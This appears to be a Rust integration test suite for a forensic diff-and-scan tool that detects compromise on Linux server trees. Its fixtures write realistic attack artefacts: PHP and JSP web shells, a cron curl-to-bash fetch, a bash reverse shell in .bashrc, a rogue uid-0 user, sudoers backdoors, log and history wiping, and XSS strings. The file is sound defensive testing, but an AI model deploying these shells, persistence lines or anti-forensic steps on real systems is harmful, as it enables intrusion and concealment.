//! `exhibit diff` and `exhibit scan` on generated server trees: change
//! classes (including the log-aware ones), every finding class of issue 6,
//! and the noise that must stay low. Each test builds a baseline and an
//! incident tree, runs the real binary and asserts on its JSON.

use crate::util::{exhibit, write};
use serde_json::Value;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

struct Trees {
    _tmp: tempfile::TempDir,
    old: PathBuf,
    new: PathBuf,
}

/// A baseline with a few ordinary server files, copied to `new`.
fn trees(files: &[(&str, &str)]) -> Trees {
    let tmp = tempfile::tempdir().expect("tempdir");
    let old = tmp.path().join("old");
    let new = tmp.path().join("new");
    let base: Vec<(&str, &str)> = vec![
        (
            "etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n",
        ),
        ("etc/group", "root:x:0:\nsudo:x:27:\nwww-data:x:33:\n"),
        ("etc/hostname", "web01\n"),
        (
            "var/log/auth.log",
            "Jan 1 00:00:01 web01 sshd[1]: Accepted publickey for root\nJan 1 00:00:02 web01 sshd[1]: session opened\n",
        ),
        ("var/log/syslog", "Jan 1 00:00:01 web01 kernel: boot\n"),
        ("var/www/html/index.php", "<?php echo 'hello'; ?>\n"),
        ("var/www/html/uploads/.keep", ""),
        ("root/.bash_history", "ls\ncd /var/www\n"),
        ("tmp/.X11-unix/.keep", ""),
    ];
    for root in [&old, &new] {
        for (p, c) in base.iter().chain(files.iter()) {
            write(root, p, c.as_bytes());
        }
    }
    Trees {
        _tmp: tmp,
        old,
        new,
    }
}

fn chmod(root: &Path, rel: &str, mode: u32) {
    std::fs::set_permissions(root.join(rel), std::fs::Permissions::from_mode(mode)).expect("chmod");
}

fn set_mtime(root: &Path, rel: &str, t: SystemTime) {
    let f = std::fs::File::options()
        .write(true)
        .open(root.join(rel))
        .expect("open");
    f.set_modified(t).expect("set mtime");
}

fn diff_json(t: &Trees, extra: &[&str]) -> Value {
    let out = exhibit()
        .arg("diff")
        .arg(&t.old)
        .arg(&t.new)
        .arg("--json")
        .args(extra)
        .output()
        .expect("run");
    assert!(
        out.status.success(),
        "exit {:?}: {}",
        out.status.code(),
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("json")
}

fn scan_json(dir: &Path) -> Value {
    let out = exhibit()
        .arg("scan")
        .arg(dir)
        .arg("--json")
        .output()
        .expect("run");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("json")
}

fn change_of(v: &Value, path: &str) -> Option<String> {
    v["changes"]
        .as_array()?
        .iter()
        .find(|c| c["path"] == path)
        .and_then(|c| c["change"].as_str().map(str::to_string))
}

/// (rule, severity) of every finding on a path.
fn findings_on(v: &Value, path: &str) -> Vec<(String, String)> {
    v["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["path"] == path)
        .map(|f| {
            (
                f["rule"].as_str().unwrap_or("").to_string(),
                f["severity"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect()
}

fn has(v: &Value, path: &str, rule: &str, severity: &str) -> bool {
    findings_on(v, path)
        .iter()
        .any(|(r, s)| r == rule && s == severity)
}

fn assert_has(v: &Value, path: &str, rule: &str, severity: &str) {
    assert!(
        has(v, path, rule, severity),
        "expected {rule} ({severity}) on {path}; findings: {:#}",
        v["findings"]
    );
}

fn max_severity(v: &Value) -> &'static str {
    let order = ["info", "low", "medium", "high", "critical"];
    let mut max = 0;
    for f in v["findings"].as_array().expect("findings") {
        let s = f["severity"].as_str().unwrap_or("");
        if let Some(i) = order.iter().position(|o| *o == s) {
            max = max.max(i + 1);
        }
    }
    if max == 0 { "none" } else { order[max - 1] }
}

#[test]
fn change_classes_added_removed_modified_metadata_type_renamed() {
    let t = trees(&[
        ("srv/a.txt", "one\n"),
        ("srv/gone.txt", "bye\n"),
        ("srv/move-me.bin", "same content here\n"),
        ("srv/mode.sh", "#!/bin/sh\n"),
        ("srv/kind", "file\n"),
    ]);
    write(&t.new, "srv/a.txt", b"two\n");
    std::fs::remove_file(t.new.join("srv/gone.txt")).expect("rm");
    std::fs::rename(t.new.join("srv/move-me.bin"), t.new.join("srv/moved.bin")).expect("mv");
    chmod(&t.new, "srv/mode.sh", 0o755);
    write(&t.new, "srv/new.txt", b"new\n");
    std::fs::remove_file(t.new.join("srv/kind")).expect("rm");
    std::os::unix::fs::symlink("/etc/hostname", t.new.join("srv/kind")).expect("ln");
    let v = diff_json(&t, &["--no-findings"]);
    assert_eq!(change_of(&v, "/srv/a.txt").as_deref(), Some("modified"));
    assert_eq!(change_of(&v, "/srv/gone.txt").as_deref(), Some("removed"));
    assert_eq!(change_of(&v, "/srv/new.txt").as_deref(), Some("added"));
    assert_eq!(change_of(&v, "/srv/moved.bin").as_deref(), Some("renamed"));
    assert_eq!(
        change_of(&v, "/srv/move-me.bin"),
        None,
        "a rename is one change"
    );
    assert_eq!(change_of(&v, "/srv/mode.sh").as_deref(), Some("metadata"));
    assert_eq!(change_of(&v, "/srv/kind").as_deref(), Some("type_changed"));
    let mode = v["changes"]
        .as_array()
        .expect("changes")
        .iter()
        .find(|c| c["path"] == "/srv/mode.sh")
        .expect("mode change");
    assert!(
        mode["attributes"]
            .as_array()
            .expect("attrs")
            .contains(&Value::from("mode"))
    );
    assert_eq!(mode["old"]["mode"], "0644");
    assert_eq!(mode["new"]["mode"], "0755");
    let moved = v["changes"]
        .as_array()
        .expect("changes")
        .iter()
        .find(|c| c["path"] == "/srv/moved.bin")
        .expect("rename");
    assert_eq!(moved["renamed_from"], "/srv/move-me.bin");
    // Sorted by path.
    let paths: Vec<&str> = v["changes"]
        .as_array()
        .expect("changes")
        .iter()
        .filter_map(|c| c["path"].as_str())
        .collect();
    let mut sorted = paths.clone();
    sorted.sort();
    assert_eq!(paths, sorted);
}

#[test]
fn log_classes_appended_rotated_truncated_rewritten() {
    let t = trees(&[
        ("var/log/app/grow.log", "a\nb\n"),
        ("var/log/app/cut.log", "a\nb\nc\n"),
        ("var/log/app/edit.log", "a\nevil\nc\n"),
        ("var/log/app/rot.log", "r1\nr2\n"),
        ("var/log/app/rotgz.log", "z1\nz2\n"),
    ]);
    let n = &t.new;
    // Appended in place (same inode).
    std::fs::OpenOptions::new()
        .append(true)
        .open(n.join("var/log/app/grow.log"))
        .and_then(|mut f| std::io::Write::write_all(&mut f, b"c\n"))
        .expect("append");
    // Truncated in place.
    std::fs::OpenOptions::new()
        .write(true)
        .open(n.join("var/log/app/cut.log"))
        .and_then(|f| f.set_len(2))
        .expect("truncate");
    // An earlier line removed.
    write(n, "var/log/app/edit.log", b"a\nc\nd\n");
    // Rotated: content moved to .1, new empty log.
    std::fs::rename(
        n.join("var/log/app/rot.log"),
        n.join("var/log/app/rot.log.1"),
    )
    .expect("mv");
    write(n, "var/log/app/rot.log", b"r3\n");
    // Rotated and compressed.
    let gz = {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut e, b"z1\nz2\n").expect("gz");
        e.finish().expect("gz")
    };
    write(n, "var/log/app/rotgz.log.1.gz", &gz);
    write(n, "var/log/app/rotgz.log", b"");
    let v = diff_json(&t, &[]);
    assert_eq!(
        change_of(&v, "/var/log/app/grow.log").as_deref(),
        Some("appended")
    );
    assert_eq!(
        change_of(&v, "/var/log/app/cut.log").as_deref(),
        Some("truncated")
    );
    assert_eq!(
        change_of(&v, "/var/log/app/edit.log").as_deref(),
        Some("rewritten")
    );
    assert_eq!(
        change_of(&v, "/var/log/app/rot.log").as_deref(),
        Some("rotated")
    );
    assert_eq!(
        change_of(&v, "/var/log/app/rotgz.log").as_deref(),
        Some("rotated")
    );
    assert_has(
        &v,
        "/var/log/app/cut.log",
        "antiforensics.log_truncated",
        "high",
    );
    assert_has(
        &v,
        "/var/log/app/edit.log",
        "antiforensics.log_rewritten",
        "high",
    );
    assert!(findings_on(&v, "/var/log/app/grow.log").is_empty());
    assert!(findings_on(&v, "/var/log/app/rot.log").is_empty());
}

fn gz(b: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut e, b).expect("gz");
    e.finish().expect("gz")
}

/// logrotate with `rotate 3` and `delaycompress`: every copy shifts by one,
/// the oldest is dropped. None of it is tampering.
#[test]
fn logrotate_shift_is_rotation_not_tampering() {
    let (a, b, c, d) = (b"A1\nA2\n", b"B1\n", b"C1\n", b"D1\n");
    let t = trees(&[]);
    for root in [&t.old, &t.new] {
        std::fs::remove_file(root.join("var/log/syslog")).expect("rm");
    }
    write(&t.old, "var/log/syslog", a);
    write(&t.old, "var/log/syslog.1", b);
    write(&t.old, "var/log/syslog.2.gz", &gz(c));
    write(&t.old, "var/log/syslog.3.gz", &gz(d));
    write(&t.new, "var/log/syslog", b"E1\n");
    write(&t.new, "var/log/syslog.1", a);
    write(&t.new, "var/log/syslog.2.gz", &gz(b));
    std::fs::copy(
        t.old.join("var/log/syslog.2.gz"),
        t.new.join("var/log/syslog.3.gz"),
    )
    .expect("cp");
    let v = diff_json(&t, &[]);
    for p in [
        "/var/log/syslog",
        "/var/log/syslog.1",
        "/var/log/syslog.2.gz",
        "/var/log/syslog.3.gz",
    ] {
        assert_eq!(
            change_of(&v, p).as_deref(),
            Some("rotated"),
            "{p}: {:#}",
            v["changes"]
        );
    }
    let sev = max_severity(&v);
    assert!(
        matches!(sev, "none" | "info" | "low"),
        "rotation rated {sev}: {:#}",
        v["findings"]
    );
}

#[test]
fn noise_stays_low_log_growth_images_sessions() {
    let t = trees(&[("var/lib/php/sessions/.keep", "")]);
    let n = &t.new;
    std::fs::OpenOptions::new()
        .append(true)
        .open(n.join("var/log/syslog"))
        .and_then(|mut f| std::io::Write::write_all(&mut f, b"Jan 1 00:01:00 web01 cron: ok\n"))
        .expect("append");
    // Real image magic, as an upload would bring.
    let mut jpeg = vec![0xff, 0xd8, 0xff, 0xe0, 0, 0x10, b'J', b'F', b'I', b'F', 0];
    jpeg.extend((0..4000u32).map(|i| (i * 7 % 251) as u8));
    write(n, "var/www/html/uploads/2026/11/cat.jpg", &jpeg);
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend((0..2000u32).map(|i| (i % 256) as u8));
    write(n, "var/www/html/uploads/2026/11/logo.png", &png);
    write(
        n,
        "var/lib/php/sessions/sess_8f2b1c0a9d",
        b"user|s:5:\"alice\";",
    );
    let v = diff_json(&t, &[]);
    let sev = max_severity(&v);
    assert!(
        matches!(sev, "none" | "info" | "low"),
        "noise rated {sev}: {:#}",
        v["findings"]
    );
}

#[test]
fn webshell_in_uploads_and_obfuscated_php() {
    let t = trees(&[]);
    write(
        &t.new,
        "var/www/html/uploads/avatar.php",
        b"<?php @eval(base64_decode($_POST['c'])); ?>\n",
    );
    write(
        &t.new,
        "var/www/html/wp-includes/class-x.php",
        b"<?php if(isset($_REQUEST['x'])){ system($_REQUEST['x']); } ?>\n",
    );
    write(
        &t.new,
        "var/www/html/static/run.jsp",
        b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>\n",
    );
    let v = diff_json(&t, &[]);
    assert_has(
        &v,
        "/var/www/html/uploads/avatar.php",
        "webshell.eval_of_request_or_decoded_data",
        "critical",
    );
    assert_has(
        &v,
        "/var/www/html/uploads/avatar.php",
        "webshell.script_extension_in_upload_dir",
        "critical",
    );
    assert_has(
        &v,
        "/var/www/html/wp-includes/class-x.php",
        "webshell.eval_of_request_or_decoded_data",
        "critical",
    );
    assert_has(
        &v,
        "/var/www/html/static/run.jsp",
        "webshell.script_in_upload_dir",
        "high",
    );
    // Findings come most severe first.
    assert_eq!(v["findings"][0]["severity"], "critical");
    // Triage without a baseline finds the same shell.
    let s = scan_json(&t.new);
    assert_has(
        &s,
        "/var/www/html/uploads/avatar.php",
        "webshell.eval_of_request_or_decoded_data",
        "critical",
    );
}

#[test]
fn executables_by_magic_in_web_root_and_tmp() {
    let t = trees(&[]);
    let mut elf = b"\x7fELF\x02\x01\x01\0".to_vec();
    elf.extend([0u8; 120]);
    write(&t.new, "var/www/html/uploads/thumb.jpg", &elf);
    write(&t.new, "dev/shm/.x/kworker", &elf);
    chmod(&t.new, "dev/shm/.x/kworker", 0o755);
    write(&t.new, "tmp/.hidden", b"notes\n");
    let v = diff_json(&t, &[]);
    assert_has(
        &v,
        "/var/www/html/uploads/thumb.jpg",
        "webshell.executable_in_web_root",
        "critical",
    );
    assert_has(&v, "/dev/shm/.x/kworker", "tmp.executable_file", "high");
    assert_has(&v, "/dev/shm/.x/kworker", "tmp.binary_file", "high");
    assert_has(&v, "/dev/shm/.x", "tmp.hidden_file", "medium");
    assert_has(&v, "/tmp/.hidden", "tmp.hidden_file", "medium");
    assert!(findings_on(&v, "/tmp/.X11-unix").is_empty());
}

#[test]
fn timestamp_manipulation() {
    let t = trees(&[
        ("srv/app/a.conf", "a\n"),
        ("srv/app/b.conf", "b\n"),
        ("srv/app/c.conf", "c\n"),
        ("srv/app/d.conf", "d\n"),
    ]);
    let years_ago = SystemTime::now() - Duration::from_secs(3 * 365 * 86400);
    // A new file backdated with touch -d.
    write(
        &t.new,
        "var/www/html/wp-load-cache.php",
        b"<?php echo 1; ?>\n",
    );
    set_mtime(&t.new, "var/www/html/wp-load-cache.php", years_ago);
    // An existing file rewritten and backdated where mtime and ctime agree.
    write(&t.new, "srv/app/b.conf", b"b changed\n");
    set_mtime(&t.new, "srv/app/b.conf", years_ago);
    // A time in the future.
    write(&t.new, "srv/app/future.conf", b"f\n");
    set_mtime(
        &t.new,
        "srv/app/future.conf",
        SystemTime::now() + Duration::from_secs(400 * 86400),
    );
    let v = diff_json(&t, &[]);
    assert_has(
        &v,
        "/var/www/html/wp-load-cache.php",
        "timestamps.new_file_predates_baseline",
        "high",
    );
    assert_has(
        &v,
        "/srv/app/b.conf",
        "timestamps.mtime_much_older_than_ctime",
        "medium",
    );
    assert_has(&v, "/srv/app/future.conf", "timestamps.future", "medium");
    let s = scan_json(&t.new);
    assert_has(
        &s,
        "/srv/app/b.conf",
        "timestamps.mtime_much_older_than_ctime",
        "medium",
    );
}

#[test]
fn accounts_uid0_new_user_sudoers_authorized_keys() {
    let t = trees(&[("etc/sudoers", "root ALL=(ALL:ALL) ALL\n")]);
    write(
        &t.new,
        "etc/passwd",
        b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/bin/bash\nsysupd:x:0:0::/root:/bin/bash\nbackup2:x:1001:1001::/home/backup2:/bin/sh\n",
    );
    write(
        &t.new,
        "etc/group",
        b"root:x:0:\nsudo:x:27:backup2\nwww-data:x:33:\n",
    );
    write(
        &t.new,
        "etc/sudoers",
        b"root ALL=(ALL:ALL) ALL\nbackup2 ALL=(ALL) NOPASSWD: ALL\n",
    );
    write(
        &t.new,
        "root/.ssh/authorized_keys",
        b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG attacker@kali\n",
    );
    let v = diff_json(&t, &[]);
    assert_has(&v, "/etc/passwd", "accounts.extra_uid0", "critical");
    assert_has(&v, "/etc/passwd", "accounts.new_user", "high");
    assert_has(&v, "/etc/passwd", "accounts.shell_enabled", "high");
    assert_has(&v, "/etc/group", "accounts.admin_group_member", "high");
    assert_has(&v, "/etc/sudoers", "accounts.sudoers_changed", "high");
    assert_has(&v, "/etc/sudoers", "accounts.sudoers_nopasswd_all", "high");
    assert_has(
        &v,
        "/root/.ssh/authorized_keys",
        "accounts.authorized_keys_changed",
        "high",
    );
    let s = scan_json(&t.new);
    assert_has(&s, "/etc/passwd", "accounts.extra_uid0", "critical");
}

#[test]
fn persistence_cron_systemd_rc_preload_shell_startup() {
    let t = trees(&[
        (
            "etc/crontab",
            "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
        ),
        ("etc/systemd/system/multi-user.target.wants/.keep", ""),
        ("root/.bashrc", "alias ll='ls -l'\n"),
    ]);
    let n = &t.new;
    write(
        n,
        "etc/cron.d/sync",
        b"*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | bash\n",
    );
    write(n, "etc/systemd/system/dbus-helper.service", b"[Service]\nExecStart=/dev/shm/.x/kworker -c /dev/shm/.x/c\n[Install]\nWantedBy=multi-user.target\n");
    std::os::unix::fs::symlink(
        "/tmp/.cache/evil.service",
        n.join("etc/systemd/system/multi-user.target.wants/evil.service"),
    )
    .expect("ln");
    write(
        n,
        "etc/rc.local",
        b"#!/bin/sh\n/usr/local/bin/helper &\nexit 0\n",
    );
    write(
        n,
        "etc/ld.so.preload",
        b"/usr/lib/x86_64-linux-gnu/libselinux.so.3\n",
    );
    write(
        n,
        "root/.bashrc",
        b"alias ll='ls -l'\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
    );
    let v = diff_json(&t, &[]);
    assert_has(&v, "/etc/cron.d/sync", "persistence.cron_changed", "medium");
    assert_has(
        &v,
        "/etc/cron.d/sync",
        "persistence.cron_fetch_pipe_shell",
        "critical",
    );
    assert_has(
        &v,
        "/etc/systemd/system/dbus-helper.service",
        "persistence.systemd_exec_from_tmp_or_hidden",
        "critical",
    );
    assert_has(
        &v,
        "/etc/systemd/system/multi-user.target.wants/evil.service",
        "persistence.systemd_wants_link_to_tmp_or_hidden",
        "critical",
    );
    assert_has(
        &v,
        "/etc/rc.local",
        "persistence.rc_script_changed",
        "medium",
    );
    assert_has(
        &v,
        "/etc/ld.so.preload",
        "persistence.ld_so_preload",
        "critical",
    );
    assert_has(
        &v,
        "/root/.bashrc",
        "persistence.shell_startup_fetch_or_reverse_shell",
        "critical",
    );
    // The unchanged crontab is not flagged.
    assert!(findings_on(&v, "/etc/crontab").is_empty());
}

#[test]
fn privilege_new_setuid_and_setgid() {
    let t = trees(&[("usr/bin/passwd", "passwd binary\n")]);
    chmod(&t.old, "usr/bin/passwd", 0o4755);
    chmod(&t.new, "usr/bin/passwd", 0o4755);
    write(&t.new, "var/tmp/sh2", b"copy of a shell\n");
    chmod(&t.new, "var/tmp/sh2", 0o4755);
    write(&t.new, "usr/bin/find2", b"find\n");
    chmod(&t.new, "usr/bin/find2", 0o2755);
    let v = diff_json(&t, &[]);
    assert_has(&v, "/var/tmp/sh2", "privilege.new_setuid_setgid", "high");
    assert_has(
        &v,
        "/var/tmp/sh2",
        "privilege.setuid_outside_system_dirs",
        "critical",
    );
    assert_has(&v, "/usr/bin/find2", "privilege.new_setuid_setgid", "high");
    // An existing setuid program that did not change is not a finding.
    assert!(findings_on(&v, "/usr/bin/passwd").is_empty());
}

/// Needs `setcap` (libcap2-bin) and the right to set file capabilities;
/// says so and skips the assertions when either is missing.
#[test]
fn privilege_file_capabilities() {
    let t = trees(&[("usr/bin/python3.11", "interpreter\n")]);
    let setcap = |root: &Path, rel: &str, caps: &str| {
        std::process::Command::new("setcap")
            .arg(caps)
            .arg(root.join(rel))
            .status()
            .map(|s| s.success())
            .unwrap_or(false)
    };
    write(&t.new, "usr/bin/ping2", b"ping\n");
    if !setcap(&t.new, "usr/bin/python3.11", "cap_setuid+ep") {
        eprintln!("setcap unavailable or not permitted: file capability test skipped");
        return;
    }
    assert!(setcap(&t.new, "usr/bin/ping2", "cap_net_raw+ep"));
    let v = diff_json(&t, &[]);
    assert_eq!(
        change_of(&v, "/usr/bin/python3.11").as_deref(),
        Some("metadata")
    );
    assert_has(&v, "/usr/bin/python3.11", "privilege.capabilities", "high");
    assert_has(&v, "/usr/bin/ping2", "privilege.capabilities", "medium");
    assert_has(
        &v,
        "/usr/bin/python3.11",
        "privilege.shell_escape",
        "critical",
    );
    let s = scan_json(&t.new);
    assert_has(&s, "/usr/bin/python3.11", "privilege.capabilities", "high");
    assert_has(&s, "/usr/bin/ping2", "privilege.capabilities", "low");
    assert_has(
        &s,
        "/usr/bin/python3.11",
        "privilege.shell_escape",
        "critical",
    );

    // Archives record capabilities too (read through the walk's directory
    // descriptor, as `getcap` reads them), so a diff of two captures sees
    // them appear.
    let cap = |root: &Path| {
        crate::util::archive_path(&crate::util::capture(
            &["--root", root.to_str().unwrap()],
            &root.with_extension("out"),
        ))
    };
    let (a, b) = (cap(&t.old), cap(&t.new));
    let recs = crate::util::records(&b);
    let getcap = crate::util::tool(
        "getcap",
        &[t.new.join("usr/bin/python3.11").to_str().unwrap()],
        &t.new,
    );
    assert!(getcap.contains("cap_setuid"), "{getcap}");
    assert_eq!(
        crate::util::record(&recs, "/usr/bin/python3.11")["capabilities"],
        "cap_setuid=ep"
    );
    assert_eq!(
        crate::util::record(&recs, "/usr/bin/ping2")["capabilities"],
        "cap_net_raw=ep"
    );
    assert!(
        crate::util::record(&recs, "/etc/passwd")
            .get("capabilities")
            .is_none()
    );
    let out = exhibit()
        .arg("diff")
        .arg(&a)
        .arg(&b)
        .arg("--json")
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_has(&v, "/usr/bin/python3.11", "privilege.capabilities", "high");
    assert_has(
        &v,
        "/usr/bin/python3.11",
        "privilege.shell_escape",
        "critical",
    );
    assert_has(&v, "/usr/bin/ping2", "privilege.capabilities", "medium");
}

fn md5_hex(b: &[u8]) -> String {
    use md5::Digest;
    hex::encode(md5::Md5::digest(b))
}

#[test]
fn system_binary_differs_from_dpkg_md5sums_merged_usr() {
    let ls_v1 = b"\x7fELF ls version 1".to_vec();
    let cat_v1 = b"\x7fELF cat version 1".to_vec();
    let list = format!(
        "{}  bin/ls\n{}  usr/bin/cat\n",
        md5_hex(&ls_v1),
        md5_hex(&cat_v1)
    );
    let t = trees(&[("var/lib/dpkg/info/coreutils.md5sums", &list)]);
    for root in [&t.old, &t.new] {
        write(root, "usr/bin/ls", &ls_v1);
        write(root, "usr/bin/cat", &cat_v1);
        std::os::unix::fs::symlink("usr/bin", root.join("bin")).expect("ln");
    }
    // A trojaned ls; the package list was not touched.
    write(&t.new, "usr/bin/ls", b"\x7fELF ls trojan");
    let v = diff_json(&t, &[]);
    assert_has(&v, "/usr/bin/ls", "packages.hash_mismatch", "critical");
    assert!(findings_on(&v, "/usr/bin/cat").is_empty());
    // Triage without a baseline finds it too, and not the intact cat.
    let s = scan_json(&t.new);
    assert_has(&s, "/usr/bin/ls", "packages.hash_mismatch", "critical");
    assert!(findings_on(&s, "/usr/bin/cat").is_empty());
}

#[test]
fn package_upgrade_with_matching_md5sums_is_not_flagged() {
    let v1 = b"\x7fELF cat version 1".to_vec();
    let v2 = b"\x7fELF cat version 2, upgraded".to_vec();
    let u1 = b"[Service]\nExecStart=/usr/sbin/cron -f\n".to_vec();
    let u2 = b"[Service]\nExecStart=/usr/sbin/cron -f -P\n".to_vec();
    let list = |cat: &[u8], unit: &[u8]| {
        format!(
            "{}  usr/bin/cat\n{}  lib/systemd/system/cron.service\n",
            md5_hex(cat),
            md5_hex(unit)
        )
    };
    let t = trees(&[("var/lib/dpkg/info/coreutils.md5sums", &list(&v1, &u1))]);
    write(&t.old, "usr/bin/cat", &v1);
    write(&t.new, "usr/bin/cat", &v2);
    write(&t.old, "usr/lib/systemd/system/cron.service", &u1);
    write(&t.new, "usr/lib/systemd/system/cron.service", &u2);
    for root in [&t.old, &t.new] {
        std::os::unix::fs::symlink("usr/lib", root.join("lib")).expect("ln");
    }
    write(
        &t.new,
        "var/lib/dpkg/info/coreutils.md5sums",
        list(&v2, &u2).as_bytes(),
    );
    let v = diff_json(&t, &[]);
    assert_eq!(change_of(&v, "/usr/bin/cat").as_deref(), Some("modified"));
    assert_eq!(
        change_of(&v, "/usr/lib/systemd/system/cron.service").as_deref(),
        Some("modified")
    );
    assert!(
        has(
            &v,
            "/usr/lib/systemd/system/cron.service",
            "persistence.systemd_unit_changed",
            "low"
        ),
        "the unit change is reported, rated low: {:#}",
        v["findings"]
    );
    let sev = max_severity(&v);
    assert!(
        matches!(sev, "none" | "info" | "low"),
        "upgrade rated {sev}: {:#}",
        v["findings"]
    );
}

#[test]
fn anti_forensics_logs_and_history() {
    let t = trees(&[
        (
            "var/log/nginx/access.log",
            "1.2.3.4 - - GET /\n5.6.7.8 - - POST /uploads/avatar.php\n",
        ),
        ("home/alice/.bash_history", "sudo -i\n"),
        ("home/bob/.zsh_history", "ls\n"),
    ]);
    let n = &t.new;
    std::fs::remove_file(n.join("var/log/nginx/access.log")).expect("rm");
    write(n, "root/.bash_history", b"");
    std::fs::remove_file(n.join("home/alice/.bash_history")).expect("rm");
    std::os::unix::fs::symlink("/dev/null", n.join("home/alice/.bash_history")).expect("ln");
    std::fs::remove_file(n.join("home/bob/.zsh_history")).expect("rm");
    let v = diff_json(&t, &[]);
    assert_has(
        &v,
        "/var/log/nginx/access.log",
        "antiforensics.log_deleted",
        "high",
    );
    assert_has(
        &v,
        "/root/.bash_history",
        "antiforensics.history_emptied",
        "high",
    );
    assert_has(
        &v,
        "/home/alice/.bash_history",
        "antiforensics.replaced_by_symlink",
        "critical",
    );
    assert_has(
        &v,
        "/home/bob/.zsh_history",
        "antiforensics.log_deleted",
        "high",
    );
    let s = scan_json(&t.new);
    assert_has(
        &s,
        "/home/alice/.bash_history",
        "antiforensics.replaced_by_symlink",
        "high",
    );
}

#[test]
fn known_bad_and_known_good_hash_sets() {
    use sha2::Digest;
    let t = trees(&[]);
    let tool = b"#!/bin/sh\n# a known attacker tool\n";
    let good = b"<?php /* vendor library using eval( on purpose */ eval($code); ?>\n";
    write(&t.new, "opt/tools/linpeas.sh", tool);
    write(&t.new, "var/www/html/vendor/lib.php", good);
    let bad_hex = hex::encode(sha2::Sha256::digest(tool));
    let good_hex = hex::encode(sha2::Sha256::digest(good));
    let dir = tempfile::tempdir().expect("tmp");
    let formats = [
        ("bad.sha256", format!("{bad_hex}  linpeas.sh\n")),
        (
            "bad.hashdeep",
            format!(
                "%%%% HASHDEEP-1.0\n%%%% size,md5,sha256,filename\n## Invoked from: /\n33,00000000000000000000000000000000,{bad_hex},/x/linpeas.sh\n"
            ),
        ),
        (
            "bad.csv",
            format!("filename,sha256\nlinpeas.sh,{bad_hex}\n"),
        ),
    ];
    let good_file = dir.path().join("good.sha256");
    std::fs::write(&good_file, format!("{good_hex}  lib.php\n")).expect("write");
    let without = diff_json(&t, &[]);
    assert!(
        !findings_on(&without, "/var/www/html/vendor/lib.php").is_empty(),
        "the vendor file is flagged without the known-good set"
    );
    for (name, text) in formats {
        let p = dir.path().join(name);
        std::fs::write(&p, text).expect("write");
        let v = diff_json(
            &t,
            &[
                "--known-bad",
                p.to_str().expect("utf8"),
                "--known-good",
                good_file.to_str().expect("utf8"),
            ],
        );
        assert_has(&v, "/opt/tools/linpeas.sh", "hashes.known_bad", "critical");
        assert!(
            findings_on(&v, "/var/www/html/vendor/lib.php").is_empty(),
            "known-good suppresses ({name})"
        );
    }
    // A file that is not a hash set is a clear error, exit 2.
    let junk = dir.path().join("junk.txt");
    std::fs::write(&junk, "hello\n").expect("write");
    let out = exhibit()
        .args(["diff", "--known-bad"])
        .arg(&junk)
        .arg(&t.old)
        .arg(&t.new)
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("junk.txt"));
}

#[test]
fn archive_baseline_against_live_tree_and_html_report() {
    let t = trees(&[("etc/motd", "welcome\n")]);
    let out_dir = t.old.parent().expect("parent").join("archives");
    std::fs::create_dir_all(&out_dir).expect("mkdir");
    let out = exhibit()
        .args(["capture", "--root"])
        .arg(&t.new)
        .arg("-o")
        .arg(&out_dir)
        .args(["--case", "C1", "--examiner", "Tester", "--json", "-q"])
        .output()
        .expect("capture");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let cap: Value = serde_json::from_slice(&out.stdout).expect("json");
    let archive = PathBuf::from(cap["archive"].as_str().expect("archive"));
    // The incident: the same tree changed in place after the capture.
    std::fs::OpenOptions::new()
        .append(true)
        .open(t.new.join("var/log/auth.log"))
        .and_then(|mut f| {
            std::io::Write::write_all(
                &mut f,
                b"Jan 1 00:10:00 web01 sshd[9]: Accepted password for root\n",
            )
        })
        .expect("append");
    write(&t.new, "etc/motd", b"welcome\n<script>alert(1)</script>\n");
    write(
        &t.new,
        "var/www/html/uploads/<img src=x onerror=alert(1)>.php",
        b"<?php system($_GET['c']); ?>",
    );
    let html = t.old.parent().expect("parent").join("report.html");
    let out = exhibit()
        .arg("diff")
        .arg(&archive)
        .arg(&t.new)
        .arg("--json")
        .arg("--html")
        .arg(&html)
        .output()
        .expect("diff");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(v["old"]["kind"], "archive");
    assert_eq!(v["new"]["kind"], "directory");
    assert_eq!(
        change_of(&v, "/var/log/auth.log").as_deref(),
        Some("appended")
    );
    assert_eq!(change_of(&v, "/etc/motd").as_deref(), Some("modified"));
    assert_eq!(
        change_of(&v, "/etc/hostname"),
        None,
        "unchanged files are not changes"
    );
    let page = std::fs::read_to_string(&html).expect("html");
    assert!(
        !page.contains("<script>alert(1)</script>"),
        "content is escaped"
    );
    assert!(!page.contains("<img src=x"), "paths are escaped");
    assert!(
        page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "the line diff is in the report"
    );
    assert!(page.contains("webshell.eval_of_request_or_decoded_data"));
}

#[test]
fn missing_snapshot_is_a_clear_error() {
    let out = exhibit()
        .args(["diff", "/nonexistent/a", "/nonexistent/b"])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
